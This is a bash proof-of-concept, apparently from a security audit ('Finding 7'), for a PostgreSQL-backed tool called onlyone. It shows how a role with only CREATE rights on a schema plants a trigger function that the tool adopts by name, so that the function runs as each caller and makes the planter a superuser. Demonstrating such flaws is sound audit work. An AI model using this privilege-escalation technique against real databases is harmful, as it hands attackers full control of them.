#!/usr/bin/env bash
# Finding 7: a role that may only CREATE in the state table's schema plants
# SCHEMA.onlyone_state_guard() before onlyone first runs there. onlyone
# adopts it (never replaced; the triggers are checked by name only): the
# row can be deleted, and the planted body runs as each holder (here it
# makes the planter a superuser). U must be a superuser's URL.
set -u
. "$(dirname "$0")/lib.sh"
port=${U##*:}; port=${port%%/*}; db=${U##*/}
psql -qAt "$U" -c "drop schema if exists planted cascade" -c "drop role if exists planter" \
  -c "create role planter login" -c "create schema planted" \
  -c "grant usage, create on schema planted to planter"
psql -qAt "host=127.0.0.1 port=$port dbname=$db user=planter" <<'SQL'
create function planted.onlyone_state_guard() returns trigger language plpgsql as $$
begin
  begin execute 'alter role planter superuser'; exception when others then null; end;
  if TG_OP = 'DELETE' then return OLD; end if;
  return NEW;
end $$;
SQL
"$O" run --table planted.locks --name planted -- true; echo "run 1: $?"
"$O" run --table planted.locks --name planted -- true; echo "run 2: $?"
psql -qAt "$U" -c "select 'planter superuser: ' || rolsuper from pg_roles where rolname = 'planter'" \
  -c "select 'triggers call: ' || tgfoid::regprocedure from pg_trigger where tgrelid = 'planted.locks'::regclass limit 1"
psql -qAt "$U" -c "delete from planted.locks" && echo "DELETE went through: the guard is the planted one"
